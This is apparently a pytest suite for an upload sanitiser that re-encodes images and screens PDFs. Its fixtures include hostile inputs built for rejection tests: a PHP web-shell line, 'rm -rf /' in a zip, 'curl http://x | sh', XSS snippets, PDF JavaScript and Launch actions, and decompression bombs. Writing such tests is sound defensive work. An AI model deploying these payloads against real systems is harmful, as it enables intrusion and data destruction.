"""Upload validation and re-encoding: every benign and hostile file is built here, in the test."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import struct
import time
import warnings
import zipfile
import zlib

import pikepdf
import pillow_heif
import pytest
from PIL import ExifTags, Image, ImageCms, ImageFile, PngImagePlugin

from backend.models import MaterialFile
from media import images, pool
from media.errors import MediaRejected
from media.images import copy_limited, normalise, sniff
from tests.media_files import (
    BAR_SIZE,
    bar_rows,
    bars,
    grey16_bars_png,
    phone_jpeg,
    png_chunk,
    raw_png,
)
from tests.test_app import assert_envelope
from tests.test_applications import count, draft, media_files, upload

LIMITS = {"max_bytes": images.DEFAULT_MAX_BYTES, "max_pixels": images.DEFAULT_MAX_PIXELS}


def encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    img.save(out, fmt, **params)
    return out.getvalue()


def noisy(size: tuple[int, int]) -> Image.Image:
    """Detail everywhere, so a cut anywhere in the JPEG scan loses real data."""
    return Image.effect_noise(size, 60).convert("RGB")


def phone_photo() -> bytes:
    """400×300 as stored by the sensor, EXIF orientation 6 (display turned 90° clockwise),
    GPS, camera model, ICC profile, XMP and a comment: all of it must disappear."""
    img = Image.new("RGB", (400, 300), (40, 90, 40))
    img.paste((255, 0, 0), (0, 0, 60, 60))  # marks the sensor's top-left corner
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Apple"
    exif[ExifTags.Base.Model] = "iPhone 15"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {1: "N", 2: (37.0, 52.0, 12.5), 3: "E", 4: (112.0, 33.0, 5.0)})
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>37,52N</exif:GPSLatitude>'
    return encode(img, "JPEG", quality=95, exif=exif, icc_profile=icc, xmp=xmp + b"</x:xmpmeta>",
                  comment=b"taken at home")


def opened(data: bytes) -> Image.Image:
    img = Image.open(io.BytesIO(data), formats=["JPEG"])
    img.load()
    return img


def rejected(data: bytes, **limits: int) -> MediaRejected:
    with pytest.raises(MediaRejected) as caught:
        normalise(data, **(LIMITS | limits))
    return caught.value


# --- images accepted and cleaned -------------------------------------------------------------

def test_phone_jpeg_is_turned_upright_and_loses_every_metadata():
    source = phone_photo()
    assert Image.open(io.BytesIO(source)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    result = normalise(source, **LIMITS)

    out = opened(result.content)
    assert (result.kind, result.media_type) == ("image", "image/jpeg")
    assert out.size == (result.width, result.height) == (300, 400)  # portrait, as displayed
    # Orientation 6 turns the sensor's top-left corner to the displayed top-right.
    red, green, _ = out.getpixel((out.width - 10, 10))
    assert red > 200 and green < 60
    assert out.getpixel((10, 10))[0] < 100
    assert not out.getexif()
    assert not {"exif", "icc_profile", "xmp", "comment"} & out.info.keys()
    for marker in (b"Exif", b"Apple", b"iPhone", b"xmpmeta", b"taken at home"):
        assert marker not in result.content
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
    assert result.page_count is None


@pytest.mark.parametrize(("sensor", "stored"), [
    ((4032, 3024), (1512, 2016)),  # a 12 MP phone photo: decoded at half, 1/4 of the pixels
    ((3000, 2000), (1707, 2560)),  # half would lose too much (1500 < 3/4 of 2560): resized
    ((2400, 1800), (1800, 2400)),  # within the cap: as it is
])
def test_large_jpegs_are_decoded_at_a_dct_scale_while_the_long_side_keeps_three_quarters(
        sensor, stored):
    """JPEG decoding at 1/2, 1/4… costs a fraction of decoding whole and resizing (12 MP:
    ~0.08 s of CPU instead of ~0.22 s, and a quarter of the memory), so it is used whenever
    the stored long side stays at least 3/4 of the cap; portrait, as displayed (orientation 6)."""
    result = normalise(phone_jpeg(*sensor), **LIMITS | {"long_side": 2560})
    assert (result.width, result.height) == stored
    assert opened(result.content).size == stored


def test_thumbnail_is_a_small_clean_jpeg():
    result = normalise(phone_photo(), **LIMITS)
    thumb = opened(result.thumbnail)
    assert thumb.size == (240, 320)
    assert not thumb.getexif() and "exif" not in thumb.info


def test_same_upload_gives_same_bytes_so_it_is_stored_once():
    source = phone_photo()
    assert normalise(source, **LIMITS).sha256 == normalise(source, **LIMITS).sha256


def test_result_is_immutable():
    result = normalise(phone_photo(), **LIMITS)
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.content = b"other"  # type: ignore[misc]


@pytest.mark.parametrize("mode", ["RGBA", "LA", "P"])
def test_transparent_png_is_flattened_on_white(mode):
    img = Image.new("RGBA", (64, 64), (0, 0, 0, 0))
    img.paste((0, 0, 255, 255), (16, 16, 48, 48))
    if mode == "LA":
        img = img.convert("LA")
    elif mode == "P":
        img = img.convert("P", palette=Image.Palette.ADAPTIVE)
        img.info["transparency"] = img.getpixel((0, 0))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret note")
    source = encode(img, "PNG", pnginfo=info)
    assert Image.open(io.BytesIO(source)).has_transparency_data

    result = normalise(source, **LIMITS)

    out = opened(result.content)
    assert out.mode == "RGB" and out.size == (64, 64)
    assert min(out.getpixel((2, 2))) > 245  # transparent corner → white, not black
    assert out.getpixel((32, 32))[0] < 80  # the opaque blue (grey in LA) square stays dark
    assert b"secret note" not in result.content


def test_heic_from_an_iphone_is_converted_to_jpeg_without_metadata():
    exif = Image.Exif()
    exif.get_ifd(ExifTags.IFD.GPSInfo).update({1: "N", 2: (37.0, 52.0, 12.5)})
    source = encode(noisy((640, 480)), "HEIF", quality=60, exif=exif)
    assert sniff(source) == "heif"

    result = normalise(source, **LIMITS)

    out = opened(result.content)
    assert out.size == (640, 480)
    assert not out.getexif() and "exif" not in out.info


def test_multi_picture_jpeg_from_a_phone_keeps_only_the_main_picture():
    main, depth_map = noisy((300, 200)), Image.new("RGB", (150, 100), "black")
    source = encode(main, "MPO", save_all=True, append_images=[depth_map])
    assert Image.open(io.BytesIO(source)).format == "MPO"

    result = normalise(source, **LIMITS)

    assert (result.width, result.height) == (300, 200)
    assert result.content.count(b"\xff\xd8") == 1  # one picture, no second one appended


def test_big_image_is_capped_to_the_long_side_and_small_one_is_not_enlarged():
    big = normalise(encode(Image.new("RGB", (6000, 1500), "gray"), "JPEG"), **LIMITS)
    assert (big.width, big.height) == (2560, 640)
    assert opened(big.thumbnail).size == (320, 80)

    small = normalise(encode(Image.new("RGB", (800, 600), "gray"), "PNG"), **LIMITS)
    assert (small.width, small.height) == (800, 600)


def test_polyglot_tail_and_comment_payload_are_dropped_by_re_encoding():
    payload = b"<?php system($_GET['c']); ?>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("run.sh", "rm -rf /")
    source = encode(noisy((200, 150)), "JPEG", comment=b"<script>alert(1)</script>")
    source += payload + archive.getvalue()

    result = normalise(source, **LIMITS)

    for marker in (payload, b"PK\x03\x04", b"<script>", b"run.sh"):
        assert marker not in result.content
    assert opened(result.content).size == (200, 150)


# --- every mode a decoder hands back: the stored page shows what the file shows ---------------

def saved(img: Image.Image, fmt: str, **params: object):
    return lambda: encode(img, fmt, **params)


def palette_bars(colours: list[int], transparency: object = None, bits: int = 8):
    """Palette image: index 0 is the background, 1 the bars; colours are the palette's RGB."""
    img = bars("P", 0, 1)
    img.putpalette(colours)
    params = {"bits": bits} | ({"transparency": transparency} if transparency is not None else {})
    return saved(img, "PNG", **params)


def heif_raw(mode: str, background: bytes, bar: bytes):
    """More than 8 bits per sample, as a 10-bit HEIF from a phone; samples little-endian."""
    def make() -> bytes:
        out = io.BytesIO()
        pillow_heif.encode(mode, BAR_SIZE, bar_rows(background, bar), out, quality=90)
        return out.getvalue()
    return make


def heif_12_bit_grey() -> bytes:
    previous, pillow_heif.options.SAVE_HDR_TO_12_BIT = pillow_heif.options.SAVE_HDR_TO_12_BIT, True
    try:
        return encode(bars("I;16", 0x8000, 0x1000), "HEIF", quality=90)
    finally:
        pillow_heif.options.SAVE_HDR_TO_12_BIT = previous


def cmyk_jpeg() -> bytes:
    """CMYK as Photoshop writes it: an Adobe APP14 marker and inverted samples (libjpeg via
    Pillow writes the same convention)."""
    data = encode(bars("CMYK", (0, 0, 60, 0), (0, 255, 255, 0)), "JPEG", quality=95)
    assert "adobe" in Image.open(io.BytesIO(data)).info
    return data


WHITE, BLACK = (255, 255, 255), (0, 0, 0)
BLUE, RED, CREAM, NAVY = (0, 0, 255), (255, 0, 0), (250, 220, 120), (20, 40, 160)

# id: (the file, the mode Pillow hands back for it, background and bar colours that must be
# stored). Background is lighter than the bars everywhere, so a blank page fails every case.
MODE_CASES = {
    "png 1-bit": (saved(bars("1", 255, 0), "PNG"), "1", WHITE, BLACK),
    "png 1-bit tRNS": (saved(bars("1", 255, 0), "PNG", transparency=255), "1", WHITE, BLACK),
    "png L": (saved(bars("L", 200, 40), "PNG"), "L", (200,) * 3, (40,) * 3),
    "png L tRNS": (saved(bars("L", 200, 40), "PNG", transparency=200), "L", WHITE, (40,) * 3),
    "png 16-bit grey (issue 10)": (grey16_bars_png, "I;16", (128,) * 3, (16,) * 3),
    "png 16-bit grey saved from I;16B": (saved(bars("I;16B", 0x8000, 0x1000), "PNG"), "I;16",
                                         (128,) * 3, (16,) * 3),
    "png 16-bit grey full range": (saved(bars("I;16", 0xFFFF, 0), "PNG"), "I;16", WHITE, BLACK),
    "png 16-bit grey tRNS": (saved(bars("I;16", 0x8000, 0x1000), "PNG", transparency=0x8000),
                             "I;16", WHITE, (16,) * 3),
    "png RGB": (saved(bars("RGB", CREAM, NAVY), "PNG"), "RGB", CREAM, NAVY),
    "png RGB tRNS": (saved(bars("RGB", CREAM, NAVY), "PNG", transparency=CREAM), "RGB", WHITE,
                     NAVY),
    "png 16-bit RGB": (lambda: raw_png(BAR_SIZE, 16, 2, bar_rows(
        struct.pack(">3H", 0xFA00, 0xDC00, 0x7800), struct.pack(">3H", 0x1400, 0x2800, 0xA000))),
        "RGB", CREAM, NAVY),
    "png P": (palette_bars([*CREAM, *NAVY]), "P", CREAM, NAVY),
    "png P 4-bit": (palette_bars([*CREAM, *NAVY], bits=4), "P", CREAM, NAVY),
    "png P tRNS": (palette_bars([*CREAM, *NAVY], transparency=0), "P", WHITE, NAVY),
    "png P with palette alpha": (palette_bars([*CREAM, *BLACK], transparency=b"\xff\x80"), "P",
                                 CREAM, (127,) * 3),
    "png LA": (saved(bars("LA", (200, 255), (0, 128)), "PNG"), "LA", (200,) * 3, (127,) * 3),
    "png RGBA": (saved(bars("RGBA", (0, 0, 0, 0), (*BLUE, 255)), "PNG"), "RGBA", WHITE, BLUE),
    "png 16-bit LA": (lambda: raw_png(BAR_SIZE, 16, 4, bar_rows(
        struct.pack(">2H", 0xC800, 0xFFFF), struct.pack(">2H", 0, 0x8000))),
        "RGBA", (200,) * 3, (127,) * 3),
    "png 16-bit RGBA": (lambda: raw_png(BAR_SIZE, 16, 6, bar_rows(
        bytes(8), struct.pack(">4H", 0, 0, 0xFFFF, 0xFFFF))), "RGBA", WHITE, BLUE),
    "jpeg L": (saved(bars("L", 200, 40), "JPEG"), "L", (200,) * 3, (40,) * 3),
    "jpeg RGB": (saved(bars("RGB", CREAM, NAVY), "JPEG"), "RGB", CREAM, NAVY),
    "jpeg CMYK Adobe-inverted": (cmyk_jpeg, "CMYK", (255, 255, 195), RED),
    "heif L": (saved(bars("L", 200, 40), "HEIF", quality=90), "L", (200,) * 3, (40,) * 3),
    "heif RGB": (saved(bars("RGB", CREAM, NAVY), "HEIF", quality=90), "RGB", CREAM, NAVY),
    "heif RGBA": (saved(bars("RGBA", (0, 0, 0, 0), (*BLUE, 255)), "HEIF", quality=90), "RGBA",
                  WHITE, BLUE),
    "heif 10-bit grey": (saved(bars("I;16", 0x8000, 0x1000), "HEIF", quality=90), "I;16",
                         (128,) * 3, (16,) * 3),
    "heif 12-bit grey": (heif_12_bit_grey, "I;16", (128,) * 3, (16,) * 3),
    "heif 10-bit RGB": (heif_raw("RGB;16", struct.pack("<3H", 0xFA00, 0xDC00, 0x7800),
                                 struct.pack("<3H", 0x1400, 0x2800, 0xA000)), "RGB", CREAM, NAVY),
    "heif 10-bit LA": (heif_raw("LA;16", struct.pack("<2H", 0xC800, 0xFFFF),
                                struct.pack("<2H", 0, 0x8000)), "RGBA", (200,) * 3, (127,) * 3),
}


def assert_colour(stored: Image.Image, xy: tuple[int, int], expected: tuple[int, ...]) -> None:
    actual = stored.getpixel(xy)
    assert all(abs(a - e) <= 10 for a, e in zip(actual, expected, strict=True)), (xy, actual)


def turned(data: bytes) -> bytes:
    """The same file with EXIF orientation 6 (display turned 90° clockwise), as a phone
    writes it: a PNG eXIf chunk after IHDR, a JPEG APP1 after SOI. (HEIF carries orientation
    as an irot transform that libheif applies while decoding, so it has no case here.)"""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    tiff = exif.tobytes()  # starts with b"Exif\0\0"
    if data.startswith(b"\x89PNG"):
        return data[:33] + png_chunk(b"eXIf", tiff[6:]) + data[33:]
    assert data.startswith(b"\xff\xd8")
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(tiff) + 2) + tiff + data[2:]


@pytest.mark.parametrize(("make", "mode", "background", "bar", "orientation"), [
    pytest.param(*case, orientation, id=f"{name} orientation {orientation}")
    for name, case in MODE_CASES.items()
    for orientation in ((1,) if name.startswith("heif") else (1, 6))])
def test_every_decoded_mode_is_stored_as_the_picture_it_shows(make, mode, background, bar,
                                                              orientation):
    """Orientation 6 turns the vertical bars into horizontal ones, for every mode alike."""
    source = turned(make()) if orientation == 6 else make()
    decoded = Image.open(io.BytesIO(source))
    assert decoded.mode == mode  # the case exercises the mode it names
    assert decoded.getexif().get(ExifTags.Base.Orientation, 1) == orientation

    result = normalise(source, **LIMITS)

    size = BAR_SIZE if orientation == 1 else BAR_SIZE[::-1]
    assert (result.width, result.height) == size
    for stored, scale in ((opened(result.content), 1), (opened(result.thumbnail), 2)):
        assert stored.mode == "RGB"
        assert stored.size == (size[0] // scale, size[1] // scale)
        middle = stored.width // 2 if orientation == 6 else stored.height // 2
        for across, colour in ((60, background), (20, bar)):  # between two bars, in the first
            xy = (middle, across // scale) if orientation == 6 else (across // scale, middle)
            assert_colour(stored, xy, colour)


def test_the_issue_png_keeps_its_bars_darker_than_the_background():
    stored = opened(normalise(grey16_bars_png(), **LIMITS).content).convert("L")
    bar, background = stored.getpixel((20, 240)), stored.getpixel((60, 240))
    assert background - bar > 100
    assert abs(background - 128) <= 2  # 0x8000 is mid-grey by the bit depth, not stretched


def test_every_mode_a_decoder_hands_back_has_a_reading_and_a_case():
    png = {mode for mode, _ in PngImagePlugin._MODES.values()}
    jpeg = {"L", "RGB", "CMYK"}  # JpegImagePlugin.SOF: 1, 3 or 4 components
    heif = {"L", "I;16", "RGB", "RGBA"}  # pillow-heif: 8 bits, or more widened to I;16
    assert png | jpeg | heif == set(images.MODE_READINGS)
    assert {case[1] for case in MODE_CASES.values()} == set(images.MODE_READINGS)


@pytest.mark.parametrize("mode", sorted(set(Image.MODES) - set(images.MODE_READINGS)))
def test_a_mode_without_a_reading_is_refused_by_name(mode):
    with pytest.raises(MediaRejected) as caught:
        images.picture_of(Image.new(mode, (8, 8)))
    assert caught.value.code == "UPLOAD_IMAGE_MODE_UNSUPPORTED"
    assert caught.value.details == {"mode": mode}
    assert mode in caught.value.message


def test_a_decoder_handing_back_an_unknown_mode_is_refused_not_guessed(monkeypatch):
    monkeypatch.delitem(images.MODE_READINGS, "I;16")
    error = rejected(grey16_bars_png())
    assert (error.code, error.details) == ("UPLOAD_IMAGE_MODE_UNSUPPORTED", {"mode": "I;16"})


BLANKED = {
    "RGBA fully transparent": saved(bars("RGBA", (*CREAM, 0), (*NAVY, 0)), "PNG"),
    "LA fully transparent": saved(bars("LA", (200, 0), (40, 0)), "PNG"),
    "P every index transparent": palette_bars([*CREAM, *NAVY], transparency=b"\0\0"),
}


@pytest.mark.parametrize("make", BLANKED.values(), ids=BLANKED.keys())
def test_a_picture_hidden_under_full_transparency_is_refused_not_stored_blank(make):
    error = rejected(make())
    assert error.code == "UPLOAD_IMAGE_BLANK"
    assert "空白" in error.message


def test_a_conversion_that_would_store_a_blank_page_is_refused(monkeypatch):
    # Pillow's own I;16 → RGB clips every sample above 255 to white: the defect of issue 10.
    monkeypatch.setitem(images.MODE_READINGS, "I;16", dataclasses.replace(
        images.MODE_READINGS["I;16"], to_rgb=lambda img: img.convert("RGB")))
    assert rejected(grey16_bars_png()).code == "UPLOAD_IMAGE_BLANK"


UNIFORM = {
    "white RGB": (saved(Image.new("RGB", (300, 200), "white"), "PNG"), WHITE),
    "16-bit grey, variation below one 8-bit level": (
        saved(bars("I;16", 0x8000, 0x8040, (300, 200)), "PNG"), (128,) * 3),
    "palette with the same colour twice": (
        lambda: encode(_same_colour_twice(), "PNG"), CREAM),
    "transparent everywhere over one colour": (
        saved(Image.new("RGBA", (300, 200), (*NAVY, 0)), "PNG"), WHITE),
}


def _same_colour_twice() -> Image.Image:
    img = bars("P", 0, 1, (300, 200))
    img.putpalette([*CREAM, *CREAM])
    return img


@pytest.mark.parametrize(("make", "colour"), UNIFORM.values(), ids=UNIFORM.keys())
def test_a_picture_that_is_one_colour_is_stored_as_it_is(make, colour):
    stored = opened(normalise(make(), **LIMITS).content)
    assert_colour(stored, (150, 100), colour)
    assert_colour(stored, (5, 5), colour)


# --- the same through the upload endpoint ---------------------------------------------------

def test_uploaded_16_bit_png_is_stored_with_its_bars(client, login):
    headers = login()
    detail = draft(client, headers)
    resp = upload(client, headers, detail["id"], "premises_proof", grey16_bars_png(), "scan.png")
    assert resp.status_code == 201, resp.json
    for url, scale in ((resp.json["url"], 1), (resp.json["thumbnail_url"], 2)):
        with client.get(url) as fetched:
            stored = Image.open(io.BytesIO(fetched.data)).convert("L")
        bar, background = stored.getpixel((20 // scale, 100)), stored.getpixel((60 // scale, 100))
        assert background - bar > 100 and abs(background - 128) <= 4


@pytest.mark.parametrize("refusal", ["blank", "mode"])
def test_refused_picture_answers_422_and_stores_nothing(client, login, app, session, monkeypatch,
                                                         refusal):
    headers = login()
    detail = draft(client, headers)
    if refusal == "blank":
        data, code = BLANKED["RGBA fully transparent"](), "UPLOAD_IMAGE_BLANK"
    else:  # as if a newer decoder handed back a mode nobody has checked yet
        monkeypatch.setattr(pool, "_processes", 0)  # the change is in this process only
        monkeypatch.delitem(images.MODE_READINGS, "I;16")
        data, code = grey16_bars_png(), "UPLOAD_IMAGE_MODE_UNSUPPORTED"
    assert_envelope(upload(client, headers, detail["id"], "premises_proof", data, "scan.png"),
                    422, code)
    assert count(session, MaterialFile) == 0
    assert media_files(app) == []


# --- images refused ------------------------------------------------------------------------

def png_bomb(side: int) -> bytes:
    """A side×side greyscale PNG of zeros built chunk by chunk (never held decoded)."""
    deflate = zlib.compressobj(9)
    rows = bytes((side + 1) * 100)
    idat = b"".join(deflate.compress(rows) for _ in range(side // 100)) + deflate.flush()
    return (b"\x89PNG\r\n\x1a\n"
            + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def test_png_decompression_bomb_is_refused_fast_without_decoding():
    bomb = png_bomb(12000)  # 144 MP, about 140 KB
    assert len(bomb) < 200_000
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a DecompressionBombWarning would fail here
        start = time.perf_counter()
        error = rejected(bomb)
        elapsed = time.perf_counter() - start
    assert error.code == "UPLOAD_TOO_MANY_PIXELS"
    assert error.details == {"width": 12000, "height": 12000, "limit": LIMITS["max_pixels"]}
    assert elapsed < 0.5


def test_jpeg_header_claiming_huge_size_is_refused_before_decoding():
    data = bytearray(encode(Image.new("RGB", (16, 16)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", 60000, 60000)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert rejected(bytes(data)).code == "UPLOAD_TOO_MANY_PIXELS"


def test_pixel_bound_is_configurable_below_the_ceiling_only():
    photo = encode(Image.new("RGB", (400, 300)), "PNG")
    assert rejected(photo, max_pixels=100_000).code == "UPLOAD_TOO_MANY_PIXELS"
    with pytest.raises(ValueError):
        normalise(photo, max_bytes=LIMITS["max_bytes"], max_pixels=images.PIXEL_CEILING + 1)
    assert Image.MAX_IMAGE_PIXELS == images.PIXEL_CEILING


def test_truncated_jpeg_and_png_are_corrupt():
    jpeg = encode(noisy((400, 300)), "JPEG")
    png = encode(noisy((400, 300)), "PNG")
    assert rejected(jpeg[: len(jpeg) // 2]).code == "UPLOAD_CORRUPT"
    assert rejected(png[: len(png) // 2]).code == "UPLOAD_CORRUPT"
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False


def test_png_with_a_checksum_error_is_corrupt():
    png = bytearray(encode(noisy((40, 30)), "PNG"))
    png[-13] ^= 0xFF  # the last IDAT chunk's CRC: pixels decode, the file is still damaged
    assert rejected(bytes(png)).code == "UPLOAD_CORRUPT"


def test_loading_truncated_images_globally_is_refused_loudly(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    with pytest.raises(RuntimeError):
        normalise(encode(noisy((40, 30)), "JPEG"), **LIMITS)


def test_right_magic_with_garbage_behind_it_is_corrupt():
    assert rejected(b"\xff\xd8\xff\xe0" + b"garbage" * 50).code == "UPLOAD_CORRUPT"
    assert rejected(b"\x89PNG\r\n\x1a\n" + b"garbage" * 50).code == "UPLOAD_CORRUPT"
    assert rejected(b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"x" * 99).code \
        == "UPLOAD_CORRUPT"


def test_empty_file_is_refused():
    error = rejected(b"")
    assert error.code == "UPLOAD_EMPTY"
    assert error.message == "文件为空，请重新选择文件上传"


def test_oversized_file_is_refused_before_parsing():
    error = rejected(b"\x00" * (10 * 2**20 + 1))
    assert error.code == "UPLOAD_TOO_LARGE"
    assert "10 MB" in error.message
    photo = encode(Image.new("RGB", (40, 30)), "JPEG")
    assert rejected(photo, max_bytes=len(photo) - 1).code == "UPLOAD_TOO_LARGE"


def test_copy_limited_stops_reading_an_endless_stream():
    class Endless(io.RawIOBase):
        def read(self, size: int = -1) -> bytes:
            return b"x" * size

    with pytest.raises(MediaRejected) as caught:
        copy_limited(Endless(), io.BytesIO(), 1000)
    assert caught.value.code == "UPLOAD_TOO_LARGE"
    out = io.BytesIO()
    assert copy_limited(io.BytesIO(b"x" * 1000), out, 1000) == 1000
    assert out.getvalue() == b"x" * 1000


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("evil.exe", b"MZ")
    return out.getvalue()


NOT_ALLOWED = {
    "shell script named .jpg": b"#!/bin/sh\ncurl http://x | sh\n",
    "zip": _zip(),
    "svg with script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg with xml prolog": b'<?xml version="1.0"?><svg onload="alert(1)"/>',
    "html": b"<html><script>alert(1)</script></html>",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(64),
    "mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(32),
    "random": bytes(range(256)),
}
NOT_ALLOWED_FORMATS = ["GIF", "BMP", "TIFF", "WEBP", "AVIF", "ICO"]


@pytest.mark.parametrize("data", NOT_ALLOWED.values(), ids=NOT_ALLOWED.keys())
def test_files_that_are_not_allowed_types_are_refused(data):
    error = rejected(data)
    assert error.code == "UPLOAD_TYPE_NOT_ALLOWED"
    assert "JPEG" in error.message


@pytest.mark.parametrize("fmt", NOT_ALLOWED_FORMATS)
def test_other_image_formats_are_refused(fmt):
    assert rejected(encode(Image.new("RGB", (32, 32), "red"), fmt)).code \
        == "UPLOAD_TYPE_NOT_ALLOWED"


@pytest.mark.parametrize(("major", "compatible", "kind"), [
    (b"heic", b"mif1heic", "heif"),
    (b"mif1", b"mif1heic", "heif"),
    (b"heix", b"mif1heix", "heif"),
    (b"avif", b"mif1avifmiaf", None),
    (b"mif1", b"mif1avif", None),
    (b"qt  ", b"qt  ", None),
])
def test_sniff_reads_heif_brands_and_refuses_avif(major, compatible, kind):
    data = struct.pack(">I", 16 + len(compatible)) + b"ftyp" + major + bytes(4) + compatible
    if kind:
        assert sniff(data + bytes(16)) == kind
    else:
        with pytest.raises(MediaRejected):
            sniff(data + bytes(16))


# --- PDFs ------------------------------------------------------------------------------------

def pdf_bytes(pages: int = 1, build=None, **save: object) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    if build:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def test_clean_two_page_pdf_is_kept_byte_for_byte():
    source = pdf_bytes(2)
    result = normalise(source, **LIMITS)
    assert result.content == source
    assert (result.kind, result.media_type, result.page_count) == ("pdf", "application/pdf", 2)
    assert result.thumbnail is None and result.width is None
    assert result.sha256 == hashlib.sha256(source).hexdigest()


def test_pdf_opening_on_a_page_is_not_active_content():
    def fit_first_page(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    assert normalise(pdf_bytes(1, fit_first_page), **LIMITS).page_count == 1


def _js_open_action(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))


def _launch_annotation(pdf):
    pdf.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))])


def _page_additional_action(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo))


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ...")


def _rich_media(pdf):
    pdf.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia)])


def _xfa_form(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))


def _javascript_name_tree(pdf):
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(
        [pikepdf.String("init"), pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                   JS=pikepdf.String("app.launchURL('x')"))])))


@pytest.mark.parametrize("build", [_js_open_action, _launch_annotation, _page_additional_action,
                                   _embedded_file, _rich_media, _xfa_form, _javascript_name_tree])
@pytest.mark.parametrize("object_streams", [False, True])
def test_pdf_with_active_content_is_refused(build, object_streams):
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    error = rejected(pdf_bytes(1, build, object_stream_mode=mode))
    assert error.code == "UPLOAD_PDF_ACTIVE_CONTENT"


def test_pdf_with_obfuscated_javascript_name_is_refused():
    source = pdf_bytes(1, _js_open_action, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                       compress_streams=False)
    hidden = source.replace(b"/JavaScript", b"/J#61vaScript")
    assert b"/JavaScript" not in hidden
    assert rejected(hidden).code == "UPLOAD_PDF_ACTIVE_CONTENT"


@pytest.mark.parametrize("user_password", ["u", ""])
def test_encrypted_pdf_is_refused(user_password):
    source = pdf_bytes(1, encryption=pikepdf.Encryption(owner="o", user=user_password))
    error = rejected(source)
    assert error.code == "UPLOAD_PDF_ENCRYPTED"
    assert "加密" in error.message


def test_corrupt_and_truncated_pdfs_are_refused():
    source = pdf_bytes(2)
    assert rejected(source[: len(source) // 2]).code == "UPLOAD_CORRUPT"
    assert rejected(b"%PDF-1.7\n" + b"garbage " * 50 + b"\n%%EOF\n").code == "UPLOAD_CORRUPT"


def test_pdf_page_count_is_bounded():
    error = rejected(pdf_bytes(3), max_pages=2)
    assert error.code == "UPLOAD_PDF_TOO_MANY_PAGES"
    assert error.details == {"limit": 2, "pages": 3}
    assert normalise(pdf_bytes(2), **LIMITS, max_pages=2).page_count == 2
